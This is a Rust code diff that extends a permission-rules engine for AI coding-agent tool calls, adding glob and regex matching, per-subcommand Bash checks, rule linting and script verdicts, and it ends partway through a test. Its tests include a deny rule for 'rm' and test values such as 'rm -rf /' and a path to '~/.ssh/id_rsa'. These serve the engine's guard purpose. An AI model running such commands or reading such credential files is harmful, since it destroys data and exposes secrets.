@@ -1,6 +1,9 @@
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
+use crate::agent::AgentRole;
+use crate::shell;
+
 #[derive(Debug, Copy, Clone, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "lowercase")]
 pub enum Action {
@@ -9,6 +12,19 @@ pub enum Action {
     Pass,
 }
 
+/// How a rule's patterns are matched against the primary field.
+#[derive(Debug, Copy, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum PatternKind {
+    /// Exact string, or a prefix when the pattern ends in `:*`.
+    #[default]
+    Prefix,
+    /// Shell-style glob: `*`, `**`, `?`, `[...]` and `{a,b}`.
+    Glob,
+    /// Regular expression anchored at both ends.
+    Regex,
+}
+
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Rule {
     pub tool: String,
@@ -17,8 +33,94 @@ pub struct Rule {
     pub pattern: Option<String>,
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     pub patterns: Vec<String>,
+    /// Pattern kind for this rule's patterns. A `glob:` or `regex:` prefix on
+    /// a single pattern overrides it.
+    #[serde(rename = "match", default, skip_serializing_if = "Option::is_none")]
+    pub match_kind: Option<PatternKind>,
+    /// Command run with `sh -c` for calls the rule matches; see
+    /// [`parse_script_verdict`].
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub script: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub timeout_secs: Option<u64>,
+    /// Agent roles the rule applies to; empty means every role.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub roles: Vec<AgentRole>,
+}
+
+/// How long a script rule may run before it counts as failed.
+pub const DEFAULT_SCRIPT_TIMEOUT_SECS: u64 = 10;
+
+impl Rule {
+    pub fn script(&self) -> Option<&str> {
+        self.script
+            .as_deref()
+            .map(str::trim)
+            .filter(|s| !s.is_empty())
+    }
+
+    pub fn script_timeout_secs(&self) -> u64 {
+        self.timeout_secs
+            .unwrap_or(DEFAULT_SCRIPT_TIMEOUT_SECS)
+            .max(1)
+    }
+
+    pub fn applies_to(&self, role: AgentRole) -> bool {
+        self.roles.is_empty() || self.roles.contains(&role)
+    }
+
+    /// One-line description for logs, e.g. `Bash deny "rm :*"`.
+    pub fn summary(&self) -> String {
+        let mut out = self.tool.clone();
+        match self.script() {
+            Some(script) => out.push_str(&format!(" script {script:?}")),
+            None => out.push_str(match self.action {
+                Action::Allow => " allow",
+                Action::Deny => " deny",
+                Action::Pass => " pass",
+            }),
+        }
+        if let Some(kind) = self.match_kind {
+            out.push_str(match kind {
+                PatternKind::Prefix => " prefix",
+                PatternKind::Glob => " glob",
+                PatternKind::Regex => " regex",
+            });
+        }
+        let patterns: Vec<&str> = self.all_patterns().collect();
+        match patterns.as_slice() {
+            [] => {}
+            [pattern] => out.push_str(&format!(" {pattern:?}")),
+            patterns => out.push_str(&format!(" {patterns:?}")),
+        }
+        if !self.roles.is_empty() {
+            let roles: Vec<&str> = self.roles.iter().map(|role| role.as_str()).collect();
+            out.push_str(&format!(" for {}", roles.join(", ")));
+        }
+        out
+    }
+
+    fn all_patterns(&self) -> impl Iterator<Item = &str> {
+        self.pattern
+            .as_deref()
+            .filter(|s| !s.is_empty())
+            .into_iter()
+            .chain(self.patterns.iter().map(String::as_str))
+    }
+}
+
+/// Decision reported by a script rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ScriptVerdict {
+    pub action: Action,
+    pub reason: Option<String>,
+}
+
+#[derive(Deserialize)]
+struct ScriptJsonVerdict {
+    action: Action,
+    #[serde(default)]
+    reason: Option<String>,
 }
 
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
@@ -92,6 +194,147 @@ pub fn match_pattern(pattern: &str, value: &str) -> bool {
     pattern == value
 }
 
+/// Splits a `glob:` or `regex:` prefix off a pattern.
+pub fn pattern_kind(pattern: &str, default: PatternKind) -> (PatternKind, &str) {
+    if let Some(rest) = pattern.strip_prefix("glob:") {
+        (PatternKind::Glob, rest)
+    } else if let Some(rest) = pattern.strip_prefix("regex:") {
+        (PatternKind::Regex, rest)
+    } else {
+        (default, pattern)
+    }
+}
+
+/// A pattern ready to match, after the `~`, `/` and `//` rewrites.
+#[derive(Debug, Clone)]
+pub enum Matcher {
+    Prefix(String),
+    Regex(regex::Regex),
+}
+
+impl Matcher {
+    /// Builds the matcher for one pattern. `path_field` makes glob `*` and
+    /// `?` stop at `/`.
+    pub fn new(
+        pattern: &str,
+        default_kind: PatternKind,
+        cwd: &str,
+        home_dir: &str,
+        path_field: bool,
+    ) -> Result<Self, String> {
+        let (kind, pattern) = pattern_kind(pattern, default_kind);
+        let source = match kind {
+            PatternKind::Prefix => {
+                return Ok(Matcher::Prefix(rewrite_pattern(pattern, cwd, home_dir)));
+            }
+            PatternKind::Glob => {
+                let escaped = rewrite_pattern(pattern, &glob_escape(cwd), &glob_escape(home_dir));
+                glob_to_regex(&escaped, path_field)?
+            }
+            PatternKind::Regex => {
+                rewrite_pattern(pattern, &regex::escape(cwd), &regex::escape(home_dir))
+            }
+        };
+        regex::Regex::new(&format!("^(?:{source})$"))
+            .map(Matcher::Regex)
+            .map_err(|err| format!("invalid pattern {pattern:?}: {err}"))
+    }
+
+    pub fn is_match(&self, value: &str) -> bool {
+        match self {
+            Matcher::Prefix(pattern) => match_pattern(pattern, value),
+            Matcher::Regex(re) => re.is_match(value),
+        }
+    }
+}
+
+/// Whether the tool's primary field is a file path.
+pub fn is_path_tool(tool_name: &str) -> bool {
+    matches!(tool_name, "Read" | "Write" | "Edit" | "NotebookEdit")
+}
+
+/// Checks that every pattern in the rule compiles.
+pub fn validate_rule(rule: &Rule) -> Result<(), String> {
+    let kind = rule.match_kind.unwrap_or_default();
+    let path_field = is_path_tool(&rule.tool);
+    for pattern in rule.all_patterns() {
+        Matcher::new(pattern, kind, "/cwd", "/home", path_field)?;
+    }
+    Ok(())
+}
+
+fn glob_escape(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '\\') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+fn glob_to_regex(glob: &str, path_field: bool) -> Result<String, String> {
+    let (any, one) = if path_field {
+        ("[^/]*", "[^/]")
+    } else {
+        (".*", ".")
+    };
+    let chars: Vec<char> = glob.chars().collect();
+    let mut out = String::new();
+    let mut in_braces = false;
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        match c {
+            '\\' if i + 1 < chars.len() => {
+                i += 1;
+                out.push_str(&regex::escape(&chars[i].to_string()));
+            }
+            '*' if chars.get(i + 1) == Some(&'*') => {
+                i += 1;
+                if chars.get(i + 1) == Some(&'/') {
+                    i += 1;
+                    out.push_str("(?:.*/)?");
+                } else {
+                    out.push_str(".*");
+                }
+            }
+            '*' => out.push_str(any),
+            '?' => out.push_str(one),
+            '[' => {
+                let Some(len) = chars[i + 1..].iter().skip(1).position(|&c| c == ']') else {
+                    return Err(format!("unclosed `[` in glob {glob:?}"));
+                };
+                let class: String = chars[i + 1..i + 2 + len].iter().collect();
+                let class = match class.strip_prefix('!') {
+                    Some(rest) => format!("^{rest}"),
+                    None => class,
+                };
+                out.push('[');
+                out.push_str(&class.replace('\\', "\\\\").replace('[', "\\["));
+                out.push(']');
+                i += len + 2;
+            }
+            '{' if !in_braces => {
+                in_braces = true;
+                out.push_str("(?:");
+            }
+            ',' if in_braces => out.push('|'),
+            '}' if in_braces => {
+                in_braces = false;
+                out.push(')');
+            }
+            _ => out.push_str(&regex::escape(&c.to_string())),
+        }
+        i += 1;
+    }
+    if in_braces {
+        return Err(format!("unclosed `{{` in glob {glob:?}"));
+    }
+    Ok(out)
+}
+
 pub fn resolve_primary_field(tool_name: &str, tool_input: &Value) -> String {
     let input = tool_input.as_object();
     let Some(input) = input else {
@@ -115,6 +358,160 @@ pub fn resolve_primary_field(tool_name: &str, tool_input: &Value) -> String {
     .to_owned()
 }
 
+/// One thing a tool call needs permission for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionCheck {
+    pub tool_name: String,
+    pub primary_field: String,
+}
+
+/// Devices a `Bash` command may redirect to without a separate check.
+const HARMLESS_REDIRECT_TARGETS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];
+
+/// Splits a tool call into the checks that must all be allowed.
+///
+/// Most tools need one check on their primary field. A `Bash` command needs
+/// one per simple command (including those in subshells and command
+/// substitutions), plus a `Write` check for each redirection to a file
+/// outside `cwd`. Fails when the command cannot be parsed.
+pub fn permission_checks(
+    tool_name: &str,
+    tool_input: &Value,
+    cwd: &str,
+    home_dir: &str,
+) -> Result<Vec<PermissionCheck>, String> {
+    let primary_field = resolve_primary_field(tool_name, tool_input);
+    if tool_name != "Bash" {
+        return Ok(vec![PermissionCheck {
+            tool_name: tool_name.to_owned(),
+            primary_field,
+        }]);
+    }
+
+    let parsed = shell::parse_command(&primary_field)?;
+    let mut checks: Vec<PermissionCheck> = parsed
+        .commands
+        .into_iter()
+        .map(|command| PermissionCheck {
+            tool_name: "Bash".to_owned(),
+            primary_field: command,
+        })
+        .collect();
+    if checks.is_empty() {
+        checks.push(PermissionCheck {
+            tool_name: "Bash".to_owned(),
+            primary_field,
+        });
+    }
+
+    for redirect in parsed.writes {
+        let target = if redirect.dynamic {
+            redirect.target
+        } else {
+            resolve_redirect_target(&redirect.target, cwd, home_dir)
+        };
+        let inside_cwd = !redirect.dynamic
+            && !cwd.is_empty()
+            && (target == cwd.trim_end_matches('/')
+                || target.starts_with(&format!("{}/", cwd.trim_end_matches('/'))));
+        if inside_cwd
+            || HARMLESS_REDIRECT_TARGETS.contains(&target.as_str())
+            || target.starts_with("/dev/fd/")
+        {
+            continue;
+        }
+        checks.push(PermissionCheck {
+            tool_name: "Write".to_owned(),
+            primary_field: target,
+        });
+    }
+    Ok(checks)
+}
+
+/// Absolute, lexically normalized form of a redirection target.
+fn resolve_redirect_target(target: &str, cwd: &str, home_dir: &str) -> String {
+    let joined = if target.starts_with('/') {
+        target.to_owned()
+    } else if target == "~" || target.starts_with("~/") {
+        join_paths(
+            home_dir,
+            target.trim_start_matches('~').trim_start_matches('/'),
+        )
+    } else {
+        join_paths(cwd, target)
+    };
+
+    let mut parts: Vec<&str> = Vec::new();
+    for part in joined.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            part => parts.push(part),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+/// Combines per-check results: any deny denies, and the call is allowed only
+/// when every check is allowed. Anything else passes.
+pub fn combine_decisions(decisions: impl IntoIterator<Item = (Action, bool)>) -> (Action, bool) {
+    let mut all_allowed = true;
+    for (action, matched) in decisions {
+        match action {
+            Action::Deny if matched => return (Action::Deny, true),
+            Action::Allow if matched => {}
+            _ => all_allowed = false,
+        }
+    }
+    if all_allowed {
+        (Action::Allow, true)
+    } else {
+        (Action::Pass, false)
+    }
+}
+
+/// Whether the rule covers this call: same tool, and the primary field
+/// matches `pattern` (or else any of `patterns`; a rule without either
+/// matches every call).
+pub fn rule_matches(
+    rule: &Rule,
+    tool_name: &str,
+    primary_field: &str,
+    cwd: &str,
+    home_dir: &str,
+) -> bool {
+    if rule.tool != tool_name {
+        return false;
+    }
+
+    let patterns = effective_patterns(rule);
+    if patterns.is_empty() {
+        return true;
+    }
+
+    let kind = rule.match_kind.unwrap_or_default();
+    let path_field = is_path_tool(tool_name);
+    patterns.into_iter().any(|pattern| {
+        // Invalid patterns never match; `validate_rule` reports them on load.
+        Matcher::new(pattern, kind, cwd, home_dir, path_field)
+            .is_ok_and(|m| m.is_match(primary_field))
+    })
+}
+
+/// The patterns [`rule_matches`] uses: `pattern` if set, else `patterns`.
+fn effective_patterns(rule: &Rule) -> Vec<&str> {
+    match rule.pattern.as_deref().filter(|s| !s.is_empty()) {
+        Some(pattern) => vec![pattern],
+        None => rule.patterns.iter().map(String::as_str).collect(),
+    }
+}
+
+/// Evaluates static rules against each of the call's [`permission_checks`]
+/// and combines the results with [`combine_decisions`]. A `Bash` command that
+/// cannot be parsed passes. Script rules are skipped: they need a process to
+/// run, so callers that can run them walk the rules with [`rule_matches`].
 pub fn evaluate_rules(
     rules: &[Rule],
     tool_name: &str,
@@ -122,43 +519,379 @@ pub fn evaluate_rules(
     cwd: &str,
     home_dir: &str,
 ) -> (Action, bool) {
-    let primary_field = resolve_primary_field(tool_name, tool_input);
+    let Ok(traces) = trace_rules(rules, tool_name, tool_input, cwd, home_dir) else {
+        return (Action::Pass, false);
+    };
+    combine_decisions(traces.iter().map(|trace| match trace.rule {
+        Some(index) => (rules[index].action, true),
+        None => (Action::Pass, false),
+    }))
+}
+
+/// How [`evaluate_rules`] decided one permission check.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CheckTrace {
+    pub check: PermissionCheck,
+    /// Index of the rule that decided the check, if any.
+    pub rule: Option<usize>,
+    /// Script rules that matched before the deciding rule. They were skipped,
+    /// so the hook may decide differently.
+    pub skipped_scripts: Vec<usize>,
+}
 
-    for rule in rules {
-        if rule.tool != tool_name {
+/// Like [`evaluate_rules`], but reports the deciding rule for each check.
+/// Fails when a `Bash` command cannot be parsed.
+pub fn trace_rules(
+    rules: &[Rule],
+    tool_name: &str,
+    tool_input: &Value,
+    cwd: &str,
+    home_dir: &str,
+) -> Result<Vec<CheckTrace>, String> {
+    let checks = permission_checks(tool_name, tool_input, cwd, home_dir)?;
+    Ok(checks
+        .into_iter()
+        .map(|check| trace_check(rules, check, cwd, home_dir))
+        .collect())
+}
+
+fn trace_check(rules: &[Rule], check: PermissionCheck, cwd: &str, home_dir: &str) -> CheckTrace {
+    let mut skipped_scripts = Vec::new();
+    let mut decided_by = None;
+    for (index, rule) in rules.iter().enumerate() {
+        if !rule_matches(rule, &check.tool_name, &check.primary_field, cwd, home_dir) {
             continue;
         }
-
-        if rule.script.as_deref().is_some_and(|s| !s.trim().is_empty()) {
+        if rule.script().is_some() {
+            skipped_scripts.push(index);
             continue;
         }
+        if rule.action == Action::Pass {
+            continue;
+        }
+        decided_by = Some(index);
+        break;
+    }
 
-        let mut matched = false;
-
-        if let Some(pattern) = rule.pattern.as_deref().filter(|s| !s.is_empty()) {
-            let rewritten = rewrite_pattern(pattern, cwd, home_dir);
-            matched = match_pattern(&rewritten, &primary_field);
-        } else if !rule.patterns.is_empty() {
-            for p in &rule.patterns {
-                let rewritten = rewrite_pattern(p, cwd, home_dir);
-                if match_pattern(&rewritten, &primary_field) {
-                    matched = true;
-                    break;
-                }
+    CheckTrace {
+        check,
+        rule: decided_by,
+        skipped_scripts,
+    }
+}
+
+/// Tools Claude Code asks permission for. Rules for other tools never match,
+/// apart from MCP tools (`mcp__<server>__<tool>`).
+pub const KNOWN_TOOLS: &[&str] = &[
+    "AskUserQuestion",
+    "Bash",
+    "BashOutput",
+    "Edit",
+    "EnterPlanMode",
+    "ExitPlanMode",
+    "Glob",
+    "Grep",
+    "KillShell",
+    "LS",
+    "MultiEdit",
+    "NotebookEdit",
+    "NotebookRead",
+    "Read",
+    "SlashCommand",
+    "Skill",
+    "Task",
+    "TodoWrite",
+    "WebFetch",
+    "WebSearch",
+    "Write",
+];
+
+/// Something [`lint_rules`] found wrong with a rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RuleProblem {
+    /// An earlier static rule decides every call this one matches.
+    Unreachable {
+        shadowed_by: usize,
+    },
+    UnknownTool,
+    /// Both `pattern` and `patterns` are set; `patterns` is ignored.
+    PatternAndPatterns,
+    /// `script` is set but blank, so the rule acts on its `action`.
+    EmptyScript,
+    /// `timeout_secs` only applies to script rules.
+    TimeoutWithoutScript,
+    /// `action = "pass"` only makes sense as a script verdict.
+    PassWithoutScript,
+    /// The hook answers `AskUserQuestion` itself, so the script never runs.
+    ScriptNeverRuns,
+}
+
+impl RuleProblem {
+    pub fn message(&self) -> &'static str {
+        match self {
+            RuleProblem::Unreachable { .. } => "unreachable: an earlier rule always decides first",
+            RuleProblem::UnknownTool => "unknown tool name",
+            RuleProblem::PatternAndPatterns => {
+                "sets both `pattern` and `patterns`; `patterns` is ignored"
+            }
+            RuleProblem::EmptyScript => "`script` is empty, so the rule uses its `action`",
+            RuleProblem::TimeoutWithoutScript => "`timeout_secs` has no effect without `script`",
+            RuleProblem::PassWithoutScript => "`action = \"pass\"` without `script` never decides",
+            RuleProblem::ScriptNeverRuns => {
+                "AskUserQuestion is answered before rules run, so the script never runs"
             }
-        } else {
-            matched = true;
         }
+    }
+}
 
-        if matched {
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RuleLint {
+    /// Index of the rule in the list given to [`lint_rules`].
+    pub index: usize,
+    pub problem: RuleProblem,
+}
+
+/// Finds rules that cannot do what they appear to, in evaluation order.
+/// `rules` should be the full list a call is checked against, so that rules
+/// shadowed by an earlier file are found.
+pub fn lint_rules(rules: &[Rule]) -> Vec<RuleLint> {
+    let mut lints = Vec::new();
+    for (index, rule) in rules.iter().enumerate() {
+        let mut push = |problem| lints.push(RuleLint { index, problem });
+
+        if let Some(shadowed_by) = rules[..index]
+            .iter()
+            .position(|earlier| rule_shadows(earlier, rule))
+        {
+            push(RuleProblem::Unreachable { shadowed_by });
+        }
+        if !KNOWN_TOOLS.contains(&rule.tool.as_str()) && !rule.tool.starts_with("mcp__") {
+            push(RuleProblem::UnknownTool);
+        }
+        if rule.pattern.as_deref().is_some_and(|s| !s.is_empty()) && !rule.patterns.is_empty() {
+            push(RuleProblem::PatternAndPatterns);
+        }
+        match (rule.script.is_some(), rule.script()) {
+            (true, None) => push(RuleProblem::EmptyScript),
+            (_, Some(_)) if rule.tool == "AskUserQuestion" => push(RuleProblem::ScriptNeverRuns),
+            _ => {}
+        }
+        if rule.script().is_none() {
+            if rule.timeout_secs.is_some() {
+                push(RuleProblem::TimeoutWithoutScript);
+            }
             if rule.action == Action::Pass {
-                continue;
+                push(RuleProblem::PassWithoutScript);
+            }
+        }
+    }
+    lints
+}
+
+/// Whether `earlier` decides every call that `later` matches, for every role
+/// `later` applies to. Conservative:
+/// glob and regex patterns only cover identical patterns and exact strings.
+fn rule_shadows(earlier: &Rule, later: &Rule) -> bool {
+    if earlier.tool != later.tool || earlier.script().is_some() || earlier.action == Action::Pass {
+        return false;
+    }
+    // It must also apply to every role the later rule does.
+    if !earlier.roles.is_empty()
+        && (later.roles.is_empty() || !later.roles.iter().all(|r| earlier.roles.contains(r)))
+    {
+        return false;
+    }
+    let earlier_kind = earlier.match_kind.unwrap_or_default();
+    let earlier_patterns = effective_patterns(earlier);
+    if earlier_patterns.is_empty() {
+        return true;
+    }
+
+    let later_kind = later.match_kind.unwrap_or_default();
+    let later_patterns: Vec<(PatternKind, &str)> = match effective_patterns(later) {
+        // No pattern matches everything, like an empty prefix pattern.
+        patterns if patterns.is_empty() => vec![(PatternKind::Prefix, "")],
+        patterns => patterns
+            .into_iter()
+            .map(|p| pattern_kind(p, later_kind))
+            .collect(),
+    };
+    let path_field = is_path_tool(&later.tool);
+    later_patterns.into_iter().all(|(kind, pattern)| {
+        earlier_patterns.iter().any(|earlier_pattern| {
+            let (earlier_kind, earlier_pattern) = pattern_kind(earlier_pattern, earlier_kind);
+            pattern_covers(earlier_kind, earlier_pattern, kind, pattern, path_field)
+        })
+    })
+}
+
+// Stand-ins for the directories patterns are rewritten against. They never
+// appear in real patterns, so the rewrites cannot make patterns overlap.
+const LINT_CWD: &str = "/\u{1}cwd";
+const LINT_HOME: &str = "/\u{1}home";
+
+fn pattern_covers(
+    kind: PatternKind,
+    pattern: &str,
+    later_kind: PatternKind,
+    later: &str,
+    path_field: bool,
+) -> bool {
+    if kind == later_kind && pattern == later {
+        return true;
+    }
+    if later_kind != PatternKind::Prefix {
+        return false;
+    }
+
+    let later = rewrite_pattern(later, LINT_CWD, LINT_HOME);
+    let later_prefix = match later.as_str() {
+        "" | ":*" => Some(""),
+        later => later.strip_suffix(":*"),
+    };
+    match later_prefix {
+        // Only a shorter prefix covers every value with this prefix.
+        Some(later_prefix) => {
+            if kind != PatternKind::Prefix {
+                return false;
+            }
+            let pattern = rewrite_pattern(pattern, LINT_CWD, LINT_HOME);
+            match pattern.as_str() {
+                "" | ":*" => true,
+                pattern => pattern
+                    .strip_suffix(":*")
+                    .is_some_and(|prefix| later_prefix.starts_with(prefix)),
+            }
+        }
+        // An exact pattern matches one value.
+        None => Matcher::new(pattern, kind, LINT_CWD, LINT_HOME, path_field)
+            .is_ok_and(|m| m.is_match(&later)),
+    }
+}
+
+/// Rules that repeat `action` for exactly this call, one per permission
+/// check that `rules` do not already allow (so granting a compound `Bash`
+/// command covers each of its new commands, and denying one never denies a
+/// command the rules allow). Paths inside `cwd` become worktree-scoped.
+pub fn grant_rules(
+    rules: &[Rule],
+    tool_name: &str,
+    tool_input: &Value,
+    cwd: &str,
+    home_dir: &str,
+    action: Action,
+) -> Result<Vec<Rule>, String> {
+    let traces = trace_rules(rules, tool_name, tool_input, cwd, home_dir)?;
+
+    let mut out: Vec<Rule> = Vec::new();
+    for CheckTrace { check, rule, .. } in traces {
+        if rule.is_some_and(|index| rules[index].action == Action::Allow) {
+            continue;
+        }
+        let (match_kind, pattern) = match check.primary_field.as_str() {
+            "" => (None, None),
+            value => {
+                let (kind, pattern) = exact_pattern(value, cwd, is_path_tool(&check.tool_name));
+                (kind, Some(pattern))
+            }
+        };
+        let rule = Rule {
+            tool: check.tool_name,
+            action,
+            pattern,
+            patterns: Vec::new(),
+            match_kind,
+            script: None,
+            timeout_secs: None,
+            roles: Vec::new(),
+        };
+        if !out.contains(&rule) {
+            out.push(rule);
+        }
+    }
+    Ok(out)
+}
+
+/// A pattern matching exactly `value`, given the `~`, `/` and `//` rewrites.
+fn exact_pattern(value: &str, cwd: &str, path_field: bool) -> (Option<PatternKind>, String) {
+    let cwd = cwd.trim_end_matches('/');
+    if path_field && !cwd.is_empty() {
+        if let Some(rel) = value.strip_prefix(cwd).filter(|r| r.starts_with('/')) {
+            if !rel.ends_with(":*") {
+                return (None, rel.to_owned());
             }
-            return (rule.action, true);
         }
     }
 
-    (Action::Pass, false)
+    let needs_regex = value.starts_with('~')
+        || value.ends_with(":*")
+        || value.starts_with("glob:")
+        || value.starts_with("regex:");
+    let (kind, pattern) = if needs_regex {
+        // `[~]` keeps a leading tilde from being read as the home directory.
+        let escaped = regex::escape(value);
+        let escaped = match escaped.strip_prefix('~') {
+            Some(rest) => format!("[~]{rest}"),
+            None => escaped,
+        };
+        (Some(PatternKind::Regex), escaped)
+    } else {
+        (None, value.to_owned())
+    };
+    if pattern.starts_with('/') {
+        (kind, format!("/{pattern}"))
+    } else {
+        (kind, pattern)
+    }
+}
+
+/// Reads a script rule's decision.
+///
+/// Stdout wins when it names one: either a JSON object
+/// `{"action": "allow|deny|pass", "reason": "..."}` or text whose first word
+/// is `allow`, `deny` or `pass`, with the rest as the reason. Otherwise the
+/// exit code decides (`0` allow, `1` deny, `2` pass) and any stdout is the
+/// reason. Other exit codes (or none) are errors.
+pub fn parse_script_verdict(exit_code: Option<i32>, stdout: &str) -> Result<ScriptVerdict, String> {
+    let stdout = stdout.trim();
+    let reason_from = |s: &str| Some(s.trim().to_owned()).filter(|s| !s.is_empty());
+
+    let by_code = match exit_code {
+        Some(0) => Action::Allow,
+        Some(1) => Action::Deny,
+        Some(2) => Action::Pass,
+        Some(code) => return Err(format!("exited with code {code}")),
+        None => return Err("killed by signal".to_owned()),
+    };
+
+    if stdout.starts_with('{') {
+        let verdict: ScriptJsonVerdict =
+            serde_json::from_str(stdout).map_err(|err| format!("invalid JSON verdict: {err}"))?;
+        return Ok(ScriptVerdict {
+            action: verdict.action,
+            reason: verdict.reason.as_deref().and_then(reason_from),
+        });
+    }
+
+    let (word, rest) = stdout
+        .split_once(char::is_whitespace)
+        .unwrap_or((stdout, ""));
+    let named = match word.to_ascii_lowercase().as_str() {
+        "allow" => Some(Action::Allow),
+        "deny" => Some(Action::Deny),
+        "pass" => Some(Action::Pass),
+        _ => None,
+    };
+    Ok(match named {
+        Some(action) => ScriptVerdict {
+            action,
+            reason: reason_from(rest),
+        },
+        None => ScriptVerdict {
+            action: by_code,
+            reason: reason_from(stdout),
+        },
+    })
 }
 
 #[cfg(test)]
@@ -279,21 +1012,30 @@ mod tests {
                 action: Action::Allow,
                 pattern: None,
                 patterns: vec!["git :*".to_owned(), "cargo :*".to_owned()],
+                match_kind: None,
                 script: None,
+                timeout_secs: None,
+                roles: Vec::new(),
             },
             Rule {
                 tool: "Bash".to_owned(),
                 action: Action::Deny,
                 pattern: Some("rm :*".to_owned()),
                 patterns: Vec::new(),
+                match_kind: None,
                 script: None,
+                timeout_secs: None,
+                roles: Vec::new(),
             },
             Rule {
                 tool: "Read".to_owned(),
                 action: Action::Allow,
                 pattern: None,
                 patterns: Vec::new(),
+                match_kind: None,
                 script: None,
+                timeout_secs: None,
+                roles: Vec::new(),
             },
         ];
 
@@ -338,6 +1080,263 @@ mod tests {
         assert!(matched);
     }
 
+    #[test]
+    fn glob_and_regex_patterns() {
+        let home = "/home/alice";
+        let cwd = "/home/alice/project";
+
+        let cases = [
+            // (tool, kind, pattern, value, want)
+            (
+                "Bash",
+                PatternKind::Glob,
+                "cargo *",
+                "cargo test --all",
+                true,
+            ),
+            ("Bash", PatternKind::Glob, "cargo *", "cargo", false),
+            (
+                "Bash",
+                PatternKind::Glob,
+                "cargo {build,test}*",
+                "cargo test -p a/b",
+                true,
+            ),
+            (
+                "Bash",
+                PatternKind::Glob,
+                "cargo {build,test}*",
+                "cargo publish",
+                false,
+            ),
+            (
+                "Bash",
+                PatternKind::Glob,
+                "git ?ush *",
+                "git push origin",
+                true,
+            ),
+            (
+                "Edit",
+                PatternKind::Glob,
+                "/src/**/*.rs",
+                "/home/alice/project/src/a/b.rs",
+                true,
+            ),
+            (
+                "Edit",
+                PatternKind::Glob,
+                "/src/**/*.rs",
+                "/home/alice/project/src/lib.rs",
+                true,
+            ),
+            (
+                "Edit",
+                PatternKind::Glob,
+                "/src/*.rs",
+                "/home/alice/project/src/a/b.rs",
+                false,
+            ),
+            ("Edit", PatternKind::Glob, "//etc/[!p]*", "/etc/hosts", true),
+            (
+                "Edit",
+                PatternKind::Glob,
+                "//etc/[!p]*",
+                "/etc/passwd",
+                false,
+            ),
+            (
+                "Read",
+                PatternKind::Glob,
+                "~/.ssh/*",
+                "/home/alice/.ssh/id_rsa",
+                true,
+            ),
+            (
+                "Bash",
+                PatternKind::Regex,
+                r"cargo (build|test)\b.*",
+                "cargo test -q",
+                true,
+            ),
+            (
+                "Bash",
+                PatternKind::Regex,
+                "cargo (build|test)",
+                "cargo test -q",
+                false,
+            ),
+            ("Bash", PatternKind::Regex, "rm", "rm -rf /", false),
+            (
+                "Edit",
+                PatternKind::Regex,
+                r"/src/.*\.rs",
+                "/home/alice/project/src/x.rs",
+                true,
+            ),
+            // Per-pattern prefixes override the rule's kind.
+            (
+                "Bash",
+                PatternKind::Prefix,
+                "glob:npm *",
+                "npm install",
+                true,
+            ),
+            (
+                "Bash",
+                PatternKind::Glob,
+                "regex:npm (ci|install)",
+                "npm ci",
+                true,
+            ),
+            // Prefix semantics are unchanged.
+            ("Bash", PatternKind::Prefix, "git :*", "git status", true),
+            ("Bash", PatternKind::Prefix, "cargo *", "cargo test", false),
+        ];
+
+        for (tool, kind, pattern, value, want) in cases {
+            let rule = Rule {
+                tool: tool.to_owned(),
+                action: Action::Allow,
+                pattern: Some(pattern.to_owned()),
+                patterns: Vec::new(),
+                match_kind: Some(kind),
+                script: None,
+                timeout_secs: None,
+                roles: Vec::new(),
+            };
+            assert!(validate_rule(&rule).is_ok(), "pattern={pattern:?}");
+            let got = rule_matches(&rule, tool, value, cwd, home);
+            assert_eq!(
+                got, want,
+                "kind={kind:?} pattern={pattern:?} value={value:?}"
+            );
+        }
+
+        let bad = |kind, pattern: &str| Rule {
+            tool: "Bash".to_owned(),
+            action: Action::Deny,
+            pattern: None,
+            patterns: vec!["ls :*".to_owned(), pattern.to_owned()],
+            match_kind: Some(kind),
+            script: None,
+            timeout_secs: None,
+            roles: Vec::new(),
+        };
+        assert!(validate_rule(&bad(PatternKind::Regex, "(unclosed")).is_err());
+        assert!(validate_rule(&bad(PatternKind::Glob, "src/[abc")).is_err());
+        assert!(validate_rule(&bad(PatternKind::Glob, "{a,b")).is_err());
+        assert!(!rule_matches(
+            &bad(PatternKind::Regex, "(unclosed"),
+            "Bash",
+            "(unclosed",
+            cwd,
+            home
+        ));
+    }
+
+    #[test]
+    fn match_kind_parses_from_toml() {
+        let file: PermissionsFile = toml::from_str(
+            r#"
+[[rules]]
+tool = "Bash"
+action = "allow"
+match = "regex"
+pattern = "cargo (build|test).*"
+"#,
+        )
+        .unwrap();
+        assert_eq!(file.rules[0].match_kind, Some(PatternKind::Regex));
+    }
+
+    #[test]
+    fn evaluate_rules_skips_script_rules() {
+        let rules = vec![
+            Rule {
+                tool: "Bash".to_owned(),
+                action: Action::Deny,
+                pattern: Some("git push:*".to_owned()),
+                patterns: Vec::new(),
+                match_kind: None,
+                script: Some("./check-push.sh".to_owned()),
+                timeout_secs: None,
+                roles: Vec::new(),
+            },
+            Rule {
+                tool: "Bash".to_owned(),
+                action: Action::Allow,
+                pattern: Some("git :*".to_owned()),
+                patterns: Vec::new(),
+                match_kind: None,
+                script: None,
+                timeout_secs: None,
+                roles: Vec::new(),
+            },
+        ];
+        assert!(rule_matches(
+            &rules[0],
+            "Bash",
+            "git push origin",
+            "/w",
+            "/h"
+        ));
